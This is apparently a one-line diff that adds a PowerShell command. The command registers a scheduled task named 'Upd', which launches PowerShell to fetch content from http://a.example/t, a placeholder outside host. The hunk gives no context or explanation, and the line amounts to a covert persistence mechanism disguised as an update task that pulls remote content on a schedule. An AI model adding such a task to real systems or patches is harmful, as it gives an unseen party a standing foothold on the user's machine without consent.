@@ -1,0 +1,1 @@
+$a=New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-c iwr http://a.example/t';Register-ScheduledTask -TaskName Upd -Action $a
